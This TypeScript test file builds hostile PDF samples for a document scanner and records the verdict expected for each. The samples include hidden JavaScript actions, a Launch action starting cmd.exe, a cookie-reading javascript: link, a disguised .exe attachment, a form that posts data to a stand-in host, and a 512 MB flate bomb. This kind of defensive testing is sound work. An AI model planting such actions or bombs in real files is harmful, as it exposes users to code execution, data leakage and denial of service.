/** Hostile PDFs, written by hand: actions that run or fetch things, and broken or abusive structures. */
import { buildPdf } from '@test/builders/scan-samples';
import { zlibSync } from 'fflate';
import {
  asLatin1,
  concatBytes,
  latin1,
  resumeLines,
  textOperations,
  textPdf,
  zlibZeros,
} from './hostile-bytes';
import { accepted, file, type HostileFile, junk, refused } from './hostile-file';

/** PDFs that run JavaScript, launch programs, carry attachments or send data when opened, hidden every usual way. */
export function pdfActions(): HostileFile[] {
  const family = 'PDF actions';
  const attachment = (name: string, bytes: string) =>
    textPdf({
      catalog: `/Names << /EmbeddedFiles << /Names [(${name}) 6 0 R] >> >>`,
      extraObjects: [
        `<< /Type /Filespec /F (${name}) /UF (${name}) /EF << /F 7 0 R >> >>`,
        `<< /Type /EmbeddedFile /Length ${bytes.length} >>\nstream\n${bytes}\nendstream`,
      ],
    });
  const packedAction = `7 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>`;
  const packed = asLatin1(zlibSync(latin1(packedAction)));
  return [
    file(
      family,
      'javascript-open-action.pdf',
      textPdf({ catalog: '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>' }),
      'JavaScript run when the PDF opens',
      refused('high'),
    ),
    file(
      family,
      'javascript-names.pdf',
      textPdf({
        catalog: '/Names << /JavaScript << /Names [(init) 6 0 R] >> >>',
        extraObjects: ['<< /S /JavaScript /JS (this.exportDataObject\\({cName: "x"}\\)) >>'],
      }),
      'document-level JavaScript in the name tree',
      refused('high'),
    ),
    file(
      family,
      'javascript-escaped-name.pdf',
      textPdf({ catalog: '/OpenAction << /S /J#61vaScr#69pt /J#53 (app.alert\\(1\\)) >>' }),
      'JavaScript behind #hh-escaped names',
      refused('high'),
    ),
    file(
      family,
      'javascript-object-stream.pdf',
      textPdf({
        catalog: '/OpenAction 7 0 R',
        extraObjects: [
          `<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length} >>\nstream\n${packed}\nendstream`,
        ],
      }),
      'a JavaScript action hidden in a compressed object stream',
      refused('high'),
    ),
    file(
      family,
      'page-open-javascript.pdf',
      textPdf({ page: '/AA << /O << /S /JavaScript /JS (app.alert\\(1\\)) >> >>' }),
      'JavaScript run when the page is shown',
      refused('high'),
    ),
    file(
      family,
      'launch.pdf',
      textPdf({ catalog: '/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>' }),
      'a launch action starting cmd.exe',
      refused('high'),
    ),
    file(
      family,
      'javascript-link.pdf',
      textPdf({
        page: '/Annots [6 0 R]',
        extraObjects: [
          '<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /URI /URI (javascript:alert\\(document.cookie\\)) >> >>',
        ],
      }),
      'a link that runs javascript:',
      refused('high'),
    ),
    file(
      family,
      'attached-program.pdf',
      attachment('invoice.exe', 'MZ\u0090\u0000This program cannot be run in DOS mode.'),
      'a Windows program attached to the PDF',
      refused('high'),
    ),
    file(
      family,
      'attached-file.pdf',
      attachment('notes.txt', 'just some notes'),
      'a harmless-looking attached text file',
      { resume: 'accepted', validate: 'flagged', risk: 'medium' },
    ),
    file(
      family,
      'open-action-uri.pdf',
      textPdf({ catalog: '/OpenAction << /S /URI /URI (https://tracker.example/opened) >>' }),
      'a web address opened as soon as the PDF opens',
      { resume: 'accepted', validate: 'flagged', risk: 'medium' },
    ),
    file(
      family,
      'submit-form.pdf',
      textPdf({
        catalog: '/AcroForm << /Fields [6 0 R] >>',
        extraObjects: [
          '<< /FT /Btn /T (send) /Rect [0 0 10 10] /A << /S /SubmitForm /F << /FS /URL /F (https://collect.example/) >> >> >>',
        ],
      }),
      'a form that posts what is typed to a website',
      { resume: 'accepted', validate: 'flagged', risk: 'medium' },
    ),
  ];
}

/** A PDF with `objects` after a catalog (1) whose page tree is object 2. */
function pdfTree(pages: string, objects: string[]): Uint8Array {
  return buildPdf(['<< /Type /Catalog /Pages 2 0 R >>', pages, ...objects]);
}

/** PDFs whose structure is abusive: nesting 10,000 deep, a million pages, loops, a flate bomb, megabytes of junk. */
export function pdfStructure(): HostileFile[] {
  const family = 'PDF structure';
  const content = textOperations(resumeLines);
  const stream = `<< /Length ${content.length} >>\nstream\n${content}\nendstream`;
  const font = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';
  const page = (parent: number, extra = '') =>
    `<< /Type /Page /Parent ${parent} 0 R /MediaBox [0 0 612 792] /Contents 3 0 R /Resources << /Font << /F1 4 0 R >> >> ${extra}>>`;
  const deep = (open: string, close: string, depth: number) => open.repeat(depth) + close.repeat(depth);
  const deepContent = `${deep('[', ']', 10_000)} ${content}`;

  // A real tree of 3,000 pages: 60 intermediate nodes of 50 pages each, all showing the same content.
  const nodes = 60;
  const perNode = 50;
  const firstPage = 5 + nodes;
  const intermediates = Array.from({ length: nodes }, (_, n) => {
    const kids = Array.from({ length: perNode }, (_, k) => `${firstPage + n * perNode + k} 0 R`);
    return `<< /Type /Pages /Parent 2 0 R /Kids [${kids.join(' ')}] /Count ${perNode} >>`;
  });
  const leaves = Array.from({ length: nodes * perNode }, (_, i) => page(5 + Math.floor(i / perNode)));
  const bigTree = pdfTree(
    `<< /Type /Pages /Kids [${intermediates.map((_, n) => `${5 + n} 0 R`).join(' ')}] /Count ${nodes * perNode} >>`,
    [stream, font, ...intermediates, ...leaves],
  );

  const base = textPdf();
  const baseText = asLatin1(base);
  // An incremental update whose cross-reference section names itself as the previous one.
  const loopAt = base.length;
  const xrefLoop = concatBytes([
    base,
    latin1(
      `xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 6 /Root 1 0 R /Prev ${loopAt} >>\nstartxref\n${loopAt}\n%%EOF\n`,
    ),
  ]);
  const hugeXref = latin1(baseText.replace(/xref\n0 6\n/, 'xref\n0 99999999\n'));

  return [
    file(
      family,
      'nested-arrays.pdf',
      textPdf({ page: `/Junk ${deep('[', ']', 10_000)}` }),
      'arrays nested 10,000 deep in the page (read on a worker thread, whose stack is deep enough)',
      accepted,
    ),
    file(
      family,
      'nested-dictionaries.pdf',
      textPdf({ catalog: `/Junk ${deep('<< /A ', '>> ', 10_000)}` }),
      'dictionaries nested 10,000 deep in the catalog',
      accepted,
    ),
    file(
      family,
      'nested-content-arrays.pdf',
      pdfTree('<< /Type /Pages /Kids [5 0 R] /Count 1 >>', [
        `<< /Length ${deepContent.length} >>\nstream\n${deepContent}\nendstream`,
        font,
        page(2),
      ]),
      'arrays nested 10,000 deep in the page content',
      accepted,
    ),
    file(
      family,
      'million-pages.pdf',
      pdfTree('<< /Type /Pages /Kids [5 0 R] /Count 1000000 >>', [stream, font, page(2)]),
      'a page tree claiming 1,000,000 pages around a single page',
      accepted,
    ),
    file(family, 'three-thousand-pages.pdf', bigTree, 'a real page tree of 3,000 pages', {
      resume: 'flagged',
      validate: 'flagged',
      risk: 'low',
    }),
    file(
      family,
      'page-tree-cycle.pdf',
      pdfTree('<< /Type /Pages /Kids [2 0 R 5 0 R] /Count 2 >>', [stream, font, page(2)]),
      'a page tree that contains itself',
      refused('low'),
    ),
    file(
      family,
      'xref-loop.pdf',
      xrefLoop,
      'a cross-reference section that is its own predecessor',
      accepted,
    ),
    file(family, 'huge-xref.pdf', hugeXref, 'a cross-reference table declaring 99,999,999 entries', accepted),
    file(
      family,
      'self-referencing-length.pdf',
      pdfTree('<< /Type /Pages /Kids [5 0 R] /Count 1 >>', [
        `<< /Length 3 0 R >>\nstream\n${content}\nendstream`,
        font,
        page(2),
      ]),
      "a content stream whose /Length is the stream's own object",
      accepted,
    ),
    file(
      family,
      'flate-bomb.pdf',
      pdfTree('<< /Type /Pages /Kids [5 0 R] /Count 1 >>', [
        (() => {
          const bomb = asLatin1(zlibZeros(512));
          return `<< /Length ${bomb.length} /Filter /FlateDecode >>\nstream\n${bomb}\nendstream`;
        })(),
        font,
        page(2),
      ]),
      'a page content stream inflating to 512 MB',
      refused('high'),
    ),
    file(
      family,
      'junk-9mb.pdf',
      concatBytes([latin1('%PDF-1.7\n'), junk(9 * 1024 * 1024)]),
      '9 MB of random bytes after a PDF header',
      refused('low'),
    ),
    file(
      family,
      'junk-4mb.pdf',
      concatBytes([latin1('%PDF-1.7\n'), junk(4 * 1024 * 1024, 7)]),
      '4 MB of random bytes after a PDF header (under the resume limit)',
      refused('low'),
    ),
  ];
}
